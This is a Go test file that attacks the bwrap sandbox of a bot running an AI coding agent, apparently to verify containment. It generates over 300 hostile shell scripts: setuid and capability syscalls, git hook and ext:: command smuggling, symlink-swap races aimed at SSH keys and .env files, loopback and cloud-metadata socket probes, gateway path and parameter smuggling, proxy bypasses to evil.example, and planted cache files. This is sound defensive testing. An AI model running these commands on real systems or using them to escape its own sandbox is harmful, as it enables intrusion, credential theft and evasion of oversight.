package main

import (
	"errors"
	"fmt"
	"io/fs"
	"os"
	"os/exec"
	"path/filepath"
	"slices"
	"strings"
	"testing"

	"golang.org/x/sys/unix"

	"deckhand/internal/needtest"
	"deckhand/internal/playground/slack"
)

// attempts are scripts by class. Those of a class are made of its targets and its ways.
type attempts map[string][]string

// each adds every way to every target: @ in a way is the target.
func (a attempts) each(class string, targets, ways []string) {
	for _, target := range targets {
		for _, way := range ways {
			a[class] = append(a[class], strings.ReplaceAll(way, "@", target))
		}
	}
}

// gatewayCall is a call of the model by hand.
const gatewayCall = `b='{"model":"claude-haiku-4-5","max_tokens":9,"messages":[{"role":"user","content":"say: nothing"}]%MORE%}'; printf '%METHOD% %s HTTP/1.1\r\nHost: model.invalid\r\n%s%MOREHEAD%X-Api-Key: %s\r\nContent-Type: application/json\r\nContent-Length: %s\r\nConnection: close\r\n\r\n%s' '%PATH%' "$TOKENHEADER" "$ANTHROPIC_API_KEY" ${#b} "$b" | "$A" raw unix "$ANTHROPIC_UNIX_SOCKET" | grep '^HTTP/1.. 2' && echo 'BREACH: it passed'`

// containedAttempts are those on what a contained posture rests on.
func containedAttempts() attempts {
	a := attempts{}

	// Files that others run as the bot's user, by each call that takes a mode.
	a.each("11-setuid", []string{"4755", "2755", "6711", "u+s", "g+s", "ug+s", "7777"}, []string{
		"cp /bin/true f; chmod @ f", "touch f; chmod @ ./f", "mkdir d; chmod @ d", "install -m @ /bin/true g", "mkdir -m @ e", "mkfifo -m @ p", "cp /bin/true f; (umask 0; chmod -R @ .)",
	})
	a.each("11-setuid", []string{"90", "91", "268", "452", "0x4000005a", "0x4000010c"}, []string{
		`touch f; perl -e 'syscall(@, "f", 04755); syscall(@, -100, "f", 04755, 0); open F, "f"; syscall(@, fileno F, 04755)'`,
	})
	a["11-setuid"] = append(a["11-setuid"],
		`perl -MFcntl -e 'sysopen F, "f", O_CREAT|O_WRONLY, 06755'`, `perl -e 'syscall(85, "f", 06755)'`, `perl -e 'syscall(257, -100, "f", 0101, 06755)'`, `perl -e 'syscall(2, "f", 0101, 06755)'`,
		`perl -e 'syscall(437, -100, "f", pack("QQQ", 0101, 06755, 0), 24)'`, `perl -e 'syscall(133, "f", 0106755, 0)'`, `perl -e 'syscall(259, -100, "f", 0106755, 0)'`, `perl -e 'syscall(257, -100, ".", 020200002, 06755)'`,
		`cp -p /usr/bin/su f`, `cp --preserve=all /usr/bin/passwd f`, `tar cf t.tar -C /usr/bin su passwd newgrp; tar xpf t.tar`, `ln /usr/bin/su f`, `cp -a /usr/bin/su f; mv f g`,
		`printf x >f; perl -e 'syscall(188, "f", "security.capability", pack("L5", 0x2000001, 0xffffffff, 0, 0, 0), 20, 0)'`, `printf x >f; perl -e 'syscall(189, "f", "security.capability", pack("L5", 0x2000001, 0xffffffff, 0, 0, 0), 20, 0)'`,
		`git init --shared=world r`, `perl -e 'syscall(425, 8, "\0" x 120) >= 0 and print "BREACH: io_uring\n"'`, `chown 0:0 f`, `touch f; setfacl -m u:0:rwx f`,
	)

	// What git obeys in the thread's clone.
	a.each("12-git", []string{".git/config", ".git/hooks/post-checkout", ".git/hooks/pre-commit", ".git/config.worktree", ".git/commondir", ".git/modules/x/config", ".git/objects/info/alternates", ".git/hooks"}, []string{
		`echo "[core] fsmonitor = touch $OUT/traces/fsmonitor" >"$WS/@"`, `rm -rf "$WS/@" && mkdir -p "$WS/@"`, `ln -sf "$OUT" "$WS/@"`, `mv "$WS/@" "$WS/moved"; printf x >"$WS/@"`, `cp /bin/true "$WS/@"; chmod 755 "$WS/@"`,
	})
	a["12-git"] = append(a["12-git"],
		`cd "$WS" && git config core.hooksPath "$OUT/hooks"`, `cd "$WS" && git config --worktree core.fsmonitor "touch $OUT/traces/w"`, `cd "$WS" && git config alias.status "!touch $OUT/traces/alias"`,
		`cd "$WS" && mv .git gone && git init -q . && git config core.fsmonitor "touch $OUT/traces/new"; [ ! -e gone ] || { rm -rf .git; mv gone .git; }`,
		`cd "$WS" && git worktree add -q ../beside`, `cd "$WS" && git submodule add -q "$OTHER" sub`, `cd "$WS" && git clone -q "$OTHER" c && cat c/secret.txt`, `cd "$WS" && git clone -q --reference "$OTHER" . c && git -C c cat-file -p $OTHERBLOB`,
		`cd "$WS" && git -c core.gitProxy="touch $OUT/traces/proxy" fetch -q`, `cd "$WS" && git fetch -q "ext::sh -c 'touch $OUT/traces/ext'"`, `cd "$WS" && git push -q origin HEAD:deckhand/stolen && echo "BREACH: pushed"`,
		`cd "$WS" && git push -q "$DATA/sample" HEAD:main && echo "BREACH: pushed into the project"`, `cd "$DATA/sample" && git commit -q --allow-empty -m evil && echo "BREACH: the project's folder"`, `cd "$WS" && git maintenance start`,
	)

	// Links that are swapped while the bot saves what is not committed, after this.
	a.each("13-swap", []string{"$OUT/secret.txt", "$PERSON/.ssh/id_ed25519", "$DATA/.env", "$DATA/deckhand.yaml", "$OTHER/secret.txt", "/proc/$BOT/environ"}, []string{
		`cd "$WS"; n=s$RANDOM; ln -sf @ $n`, `cd "$WS"; n=s$RANDOM; (for i in $(seq 400); do echo x >$n; rm -f $n; ln -s @ $n; rm -f $n; done; ln -s @ $n) & sleep 0.2`,
		`cd "$WS"; d=d$RANDOM; mkdir $d; b=$(basename @); echo x >$d/$b; (for i in $(seq 200); do mv $d $d.was; ln -s $(dirname @) $d; rm $d; mv $d.was $d; done; mv $d $d.was; ln -s $(dirname @) $d) & sleep 0.2`,
		`cd "$WS"; n=h$RANDOM; ln @ $n; cat $n`,
	})

	// Sockets of this machine, and its loopback by every spelling.
	a.each("14-sockets", []string{
		"127.0.0.1:$TCP", "127.1:$TCP", "127.255.255.254:$TCP", "0:$TCP", "0.0.0.0:$TCP", "2130706433:$TCP", "localhost:$TCP", "[::1]:$TCP6", "[::ffff:127.0.0.1]:$TCP", "[::]:$TCP6", "[::ffff:7f00:1]:$TCP", "169.254.169.254:80", "10.0.0.1:80", "$PG", "$PLAY", "$MODEL",
	}, []string{`"$A" reach @ tcp "@"`, `h="@"; echo x >"/dev/tcp/${h%:*}/${h##*:}"`})
	a.each("14-sockets", []string{
		"$OUT/socket", "@$ABSTRACT", "/proc/$BOT/root$OUT/socket", "/proc/1/root$OUT/socket", "/proc/self/root$OUT/socket", "/run/docker.sock", "/run/dbus/system_bus_socket", "/run/containerd/containerd.sock", "/run/user/0/bus", "/tmp/.s.PGSQL.5432", "$DATA/bot/gateway/model",
	}, []string{`"$A" reach "x" unix "@"`, `"$A" dial x unixgram "@"`, `ln -sf "@" l; "$A" reach l unix "$PWD/l"`})
	a.each("14-sockets", []string{"$UDP", "53"}, []string{`"$A" dial x udp "127.0.0.1:@"; sleep 0.1`, `"$A" dial x udp "[::1]:@"; sleep 0.1`, `"$A" dial x udp "255.255.255.255:@"`})

	// Other threads' folders, and the bot's own.
	a.each("15-threads", []string{
		"$DATA/bot/workspaces", "$OTHERS", "$OTHERS/../$(basename $OTHERS)", "$WS/../../other/1", "/proc/$BOT/root$OTHERS", "/proc/1/root$OTHERS", "/proc/self/cwd/../../other/1", "$DATA/bot/repos", "$DATA/bot/home", "$DATA/bot", "$DATA/bot/caches",
	}, []string{
		`ls -la "@/" | grep -q secret-of && echo "BREACH: listed"; cat "@"/*secret* "@"/*/*secret*`, `tar c "@" 2>/dev/null | tr -d '\0'`, `echo "$MARK" >"@/planted" && echo "wrote @/planted"`, `ln -s "@" l; cat l/*secret*; echo "$MARK" >l/planted-by-link && echo "wrote @/planted-by-link"`, `rm -f "@"/secret-of-* "@"/*/secret-of-* "@"/*/*/secret-of-*`,
	})

	// The way to the model: paths, methods and parameters that it does not have.
	asked := func(method, path, head, more string) {
		a["16-gateway"] = append(a["16-gateway"], strings.NewReplacer("%METHOD%", method, "%PATH%", path, "%MOREHEAD%", head, "%MORE%", more).Replace(gatewayCall))
	}
	for _, path := range []string{
		"/v1/messages/", "//v1/messages", "/v1//messages", "/v1/./messages", "/v1/x/../messages", "/V1/messages", "/v1/messages%00", "/v1/messages%20", "/v1/messages;x", "/v1/messages%3fbeta=true", "/v1/%6dessages", "/v1%2fmessages", "/v1%5cmessages",
		"/v1/messages%2fbatches", "/v1/messages%252f..%252ffiles", "/v1/messages?beta=True", "/v1/messages?x", "/v1/messages?beta=true&beta=true", "/v1/messages/batches", "/v1/files", "/v1/models", "/v1/organizations/me", "/v1/complete", "/v1/skills",
		"http://127.0.0.1:80/v1/messages/", "http://model.invalid/v1/files", "/../v1/files", "/v1/messages#/../files", "/_control/bill", "/model/m/invoke",
	} {
		asked("POST", "%BASE%"+path, "", "")
	}
	for _, method := range []string{"GET", "PUT", "DELETE", "PATCH", "CONNECT", "TRACE", "OPTIONS", "PROPFIND", "post"} {
		asked(method, "%BASE%/v1/messages", "", "")
	}
	for _, more := range []string{
		`,"service_tier":"priority"`, `,"speed":"fast"`, `,"workspace_id":"x"`, `,"inference_geo":"us"`, `,"container":"c"`, `,"mcp_servers":[{"type":"url","url":"http://127.0.0.1"}]`, `,"model":"claude-opus-5-5"`, `,"fallbacks":[{"model":"gpt-9"}]`,
		`,"tools":[{"type":"web_search_20250305","name":"web_search"}]`, `,"tools":[{"type":"web_fetch_20250910","name":"web_fetch"}]`, `,"tools":[{"type":"code_execution_20250825"}]`, `,"tools":[{"type":"mcp_toolset"}]`, `,"system":[{"tools":[{"type":"web_search_20250305"}]}]`,
		`,"system":[{"type":"document","source":{"type":"url","url":"http://127.0.0.1"}}]`, `,"system":[{"type":"image","source":{"type":"file","file_id":"f"}}]`, `,"betas":["x"]`, `,"store":true`,
	} {
		asked("POST", "%BASE%/v1/messages", "", more)
	}
	for _, head := range []string{`Authorization: Bearer x\r\n`, `Api-Key: x\r\n`, `X-Deckhand-Token : x\r\n`, `Transfer-Encoding: chunked\r\n`, `Content-Length: 1\r\n`, `Expect: 200-ok\r\nContent-Length: 3\r\n`} {
		asked("POST", "%BASE%/v1/messages", head, "")
	}

	// Hosts that are not listed, by the session's forwarder and beside it.
	hosts := []string{
		"127.0.0.1:$TCP", "127.1:$TCP", "0x7f000001:$TCP", "2130706433:$TCP", "017700000001:$TCP", "0:$TCP", "localhost:$TCP", "localhost.:$TCP", "[::1]:$TCP6", "[::ffff:127.0.0.1]:$TCP", "[0:0:0:0:0:ffff:7f00:1]:$TCP", "[::1%%25lo]:$TCP6", "169.254.169.254:80", "[fd00:ec2::254]:80",
		"evil.example:443", "allowed.example:22", "allowed.example:$TCP", "allowed.example.evil.example:443", "evilallowed.example:443", "allowed.example.:443", "sub.allowed.example:443", "allowed.example@127.0.0.1:$TCP", "allowed.example%%00.evil.example:443", "allowed.example#@127.0.0.1:$TCP", "xn--allowed-.example:443",
	}
	a.each("17-egress", hosts, []string{
		`printf 'CONNECT @ HTTP/1.1\r\nHost: allowed.example:443\r\n\r\n' | "$A" raw tcp "${HTTPS_PROXY#http://}" | grep '^HTTP/1.. 2' && echo 'BREACH: it passed'`,
		`printf 'GET http://@/x HTTP/1.1\r\nHost: allowed.example\r\nConnection: close\r\n\r\n' | "$A" raw tcp "${HTTP_PROXY#http://}" | grep '^HTTP/1.. 2' && echo 'BREACH: it passed'`,
	})
	a["17-egress"] = append(a["17-egress"],
		`"$A" raw udp "8.8.8.8:53" </dev/null`, `echo x >/dev/udp/1.1.1.1/53 && "$A" route 1.1.1.1:53`, `getent hosts evil.example && echo "BREACH: resolved"`, `getent ahostsv6 evil.example && echo "BREACH: resolved"`, `"$A" links`, `"$A" route 8.8.8.8:53 [2001:4860:4860::8888]:53`,
		`printf '\5\1\0' | "$A" raw tcp "${HTTP_PROXY#http://}" | head -c 2 | grep -q "$(printf '\5')" && echo 'BREACH: socks'`,
		`printf 'GET http://allowed.example/ HTTP/1.1\r\nHost: evil.example\r\nHost: allowed.example\r\n\r\n' | "$A" raw tcp "${HTTP_PROXY#http://}" | grep '^HTTP/1.. 2' && echo 'BREACH: two hosts'`,
		`printf 'GET / HTTP/1.1\r\nHost: 127.0.0.1:%s\r\n\r\n' "$TCP" | "$A" raw tcp "${HTTP_PROXY#http://}" | grep '^HTTP/1.. 2' && echo 'BREACH: by the host alone'`,
	)

	// What would wait for another thread, or for the next session.
	a.each("18-caches", []string{
		"/tmp", "/var/tmp", "/dev/shm", "$HOME/.npm", "$HOME/.cache", "$HOME/.cargo/registry", "$HOME/go/pkg/mod", "/var/cache", "/usr/local/bin", "/usr/lib/node_modules", "/etc/profile.d", "/run", "$DATA/bot/caches/sample", "/opt", "/root", "/srv", "/etc/ld.so.preload.d",
	}, []string{`mkdir -p "@" && echo "$MARK" >"@/$MARK"`})
	return a
}

// TestAttackContained: more than 300 attempts from inside a contained project, which runs
// every command unasked, touch no canary around it, and leave nothing for anybody else.
func TestAttackContained(t *testing.T) {
	t.Parallel()
	if !strings.HasPrefix(sandboxHere(), "sandbox: bwrap") {
		needtest.Missing(t, "a project is contained where bwrap works")
	}
	s := &siege{world: unstartedWorld(t), sandbox: "contained", secrets: map[string]string{}, listened: map[string]string{}}
	s.mark = "trace-of-" + strings.TrimPrefix(s.secret("mark"), "CANARY-")
	s.outside, s.person, s.other = filepath.Join(s.dir, "outside"), filepath.Join(s.dir, "person"), filepath.Join(s.dir, "other")
	s.plant()
	s.put(filepath.Join(s.dir, "deckhand.yaml"), fmt.Sprintf(`# %s
posture: contained
sandbox: {kind: bwrap, network: [allowed.example]}
projects: {sample: {dir: %q, workspace: worktree}, other: {dir: %q, workspace: worktree}}
channels: {%s: sample, %s: other}
roles: {admins: [%s], users: [%s]}
`, s.secret("deckhand.yaml"), filepath.Join(s.dir, "sample"), s.other, eng, slack.ChannelGeneral, ada, linus))
	s.start()
	s.listen()
	folder := func(channel string) string {
		ts := s.runs(linus, channel, "", "true")
		s.done(channel, ts, ts)
		return s.text(`SELECT workspace FROM threads WHERE thread_ts = '` + ts + `'`)
	}
	others := folder(slack.ChannelGeneral)
	s.put(filepath.Join(others, "secret-of-another"), s.secret("another thread's folder")+"\n")
	thread := s.runs(linus, eng, "", "true")
	s.done(eng, thread, thread)
	s.Workspace = s.text(`SELECT workspace FROM threads WHERE thread_ts = '` + thread + `'`)
	s.release()
	s.secrets["the bot's token"], s.secrets["the app's token"], s.secrets["the model's key"] = s.BotToken, s.AppToken, "sk-ant-playground"

	all, count := containedAttempts(), 0
	base := ""
	if i := strings.Index(strings.TrimPrefix(s.ModelURL, "http://"), "/"); i >= 0 {
		base = strings.TrimPrefix(s.ModelURL, "http://")[i:]
	}
	for class, scripts := range all {
		for i, script := range scripts {
			script = strings.ReplaceAll(script, "%BASE%", base)
			s.put(filepath.Join(s.Workspace, "attack", class, fmt.Sprintf("%03d", i)), "d=$(mktemp -d \"$WS/attack/try-XXXXXX\") && cd \"$d\" || exit\n"+script+"\n")
			count++
		}
	}
	for class, script := range map[string]string{
		"11-setuid":  `cp /bin/true f; perl -e 'chmod 0755, "f"'; stat -c 'mode %a' f`,
		"14-sockets": `"$A" reach x unix "$ANTHROPIC_UNIX_SOCKET" | sed 's/^BREACH/listens/'`,
		"16-gateway": strings.NewReplacer("%METHOD%", "POST", "%PATH%", base+"/v1/messages", "%MOREHEAD%", "", "%MORE%", "", "grep '^HTTP/1.. 2' && echo 'BREACH: it passed'", "head -1").Replace(gatewayCall),
		"17-egress":  `printf 'CONNECT evil.example:443 HTTP/1.1\r\nHost: evil.example:443\r\n\r\n' | "$A" raw tcp "${HTTPS_PROXY#http://}" | head -1`,
	} {
		s.put(filepath.Join(s.Workspace, "attack", class, "control"), "cd \"$(mktemp -d \"$WS/attack/try-XXXXXX\")\" || exit\n"+script+"\n")
	}
	if count < 300 {
		t.Errorf("%d attempts", count)
	}
	run, err := attackFiles.ReadFile("testdata/attack/run.sh")
	if err != nil {
		t.Fatal(err)
	}
	s.put(filepath.Join(s.Workspace, "attack", "run.sh"), string(run))
	vars := map[string]string{
		"A": filepath.Join(s.Workspace, "attack", "tool"), "WS": s.Workspace, "DATA": s.dir, "OUT": s.outside, "PERSON": s.person, "OTHER": s.other, "OTHERS": others, "OTHERBLOB": strings.Repeat("0", 40),
		"BOT": fmt.Sprint(s.PIDs["bot"]), "MARK": s.mark, "BEATS": s.beats(), "PLAY": hostOf(s.URL), "MODEL": hostOf(s.ModelURL), "PG": "127.0.0.1:5432",
	}
	var env strings.Builder
	for name, value := range vars {
		fmt.Fprintf(&env, "export %s='%s'\n", name, value)
	}
	for name, value := range s.listened {
		fmt.Fprintf(&env, "export %s='%s'\n", name, value)
	}
	s.put(filepath.Join(s.Workspace, "attack", "env.sh"), env.String())
	s.shared = filepath.Join("/dev/shm", s.mark)

	beside := map[string]string{}
	for _, path := range []string{filepath.Join(others, "secret-of-another"), filepath.Join(others, ".git", "HEAD"), filepath.Join(s.dir, "sample", ".git", "HEAD")} {
		b, err := os.ReadFile(path)
		if err != nil {
			t.Fatal(err)
		}
		beside[path] = string(b)
	}
	entries, err := os.ReadDir(others)
	if err != nil {
		t.Fatal(err)
	}
	besides := len(entries)
	s.before = s.snapshot()
	classes := []string{"11-setuid", "12-git", "13-swap", "14-sockets", "15-threads", "16-gateway", "17-egress", "18-caches"}
	for _, class := range classes {
		s.attack(thread, class)
		t.Logf("attack: contained: %s: %d attempts", class, len(all[class]))
	}
	for path, was := range beside {
		if now, err := os.ReadFile(path); err != nil || string(now) != was {
			s.note("15-threads", "changed "+path)
		}
	}
	if entries, err := os.ReadDir(others); err != nil || len(entries) != besides {
		s.note("15-threads", fmt.Sprintf("the other folder has %v %v", entries, err))
	}
	s.privileged()
	s.saved()
	for _, place := range []string{"/tmp", "/var/tmp", "/dev/shm", "/var/cache", "/usr/local/bin", "/usr/lib/node_modules", "/etc/profile.d", "/run", "/opt", "/root", "/srv", filepath.Join(s.dir, "bot", "caches", "sample")} {
		if _, err := os.Lstat(filepath.Join(place, s.mark)); err == nil {
			s.note("18-caches", "planted in "+place)
			_ = os.Remove(filepath.Join(place, s.mark))
		}
	}
	again := s.runs(linus, eng, "", "find / -xdev -name '"+s.mark+"' -print 2>/dev/null; true")
	s.done(eng, again, again)
	for _, m := range s.messages(eng, again) {
		if strings.Contains(strings.ReplaceAll(m.all(), "'"+s.mark+"'", ""), "/"+s.mark) {
			s.note("18-caches", "another thread finds "+m.all())
		}
	}
	s.toldNobody(thread)
	searches := func() int64 { return s.count(`SELECT coalesce(sum(web_searches), 0)::bigint FROM ledger`) }
	if n := searches(); n != 0 {
		s.note("16-gateway", fmt.Sprintf("%d searches that nobody allowed", n))
	}
	asked := s.post(linus, eng, thread, `@deckhand tool: WebSearch {"query":"golang"}`)
	s.click(ada, eng, s.card(eng, thread).TS, "approve")
	s.done(eng, thread, asked)
	s.eventually("a search that was approved to be made", func() bool { return searches() == 1 })
	if n := s.count(`SELECT count(*) FROM approvals WHERE status = 'pending' OR decided_via <> 'rule'`); n != 1 { // the search
		t.Errorf("%d calls were asked about: not all that was tried ran", n)
	}
	// What is open is open: else nothing was tried.
	for class, want := range map[string]string{"11-setuid": "mode 755", "14-sockets": "listens: ", "16-gateway": "HTTP/1.1 200", "17-egress": "HTTP/1.1 403"} {
		if loot, err := os.ReadFile(filepath.Join(s.Workspace, "attack", "loot", class, "control")); err != nil || !strings.Contains(string(loot), want) {
			t.Errorf("%s: no %q in what the control got: %v %.500s", class, want, err, loot)
		}
	}
	t.Logf("attack: contained: %d attempts in %d classes, %d canaries touched", count, len(classes), len(s.touched))
}

// privileged looks for files of the bot's data that others would run as its user.
func (s *siege) privileged() {
	s.t.Helper()
	err := filepath.WalkDir(filepath.Join(s.dir, "bot"), func(path string, d fs.DirEntry, err error) error {
		if err != nil {
			return nil //nolint:nilerr // it has gone meanwhile
		}
		info, err := d.Info()
		if err != nil || d.Type()&fs.ModeSymlink != 0 {
			return nil //nolint:nilerr // the same
		}
		if info.Mode()&(fs.ModeSetuid|fs.ModeSetgid) != 0 {
			s.note("11-setuid", path+" is "+info.Mode().String())
		}
		if n, err := unix.Lgetxattr(path, "security.capability", nil); err == nil && n > 0 {
			s.note("11-setuid", path+" has capabilities")
		}
		return nil
	})
	if err != nil {
		s.t.Error(err)
	}
}

// saved looks for secrets in all that the bot has taken out of the thread's folder.
func (s *siege) saved() {
	s.t.Helper()
	s.eventually("the thread's work is saved", func() bool {
		return s.text(`SELECT coalesce(bool_and(saved_at > (SELECT max(ended_at) FROM turns r WHERE r.thread_id = t.id))::text, '') FROM work JOIN threads t ON t.id = thread_id WHERE t.workspace = '`+s.Workspace+`'`) == "true"
	})
	var repos []string
	for _, glob := range []string{"bot/repos/*", "sample"} {
		found, err := filepath.Glob(filepath.Join(s.dir, glob))
		if err != nil {
			s.t.Fatal(err)
		}
		repos = append(repos, found...)
	}
	seen := 0
	for _, repo := range slices.Compact(repos) {
		cmd := exec.CommandContext(s.t.Context(), "git", "-C", repo, "cat-file", "--batch-all-objects", "--batch")
		out, err := cmd.Output()
		if err != nil {
			s.t.Error(repo, errors.Join(err))
		}
		seen += len(out)
		for where := range s.secretsIn(string(out)) {
			s.note("13-swap", "saved: "+where)
		}
	}
	if seen == 0 {
		s.t.Error("nothing was saved")
	}
}
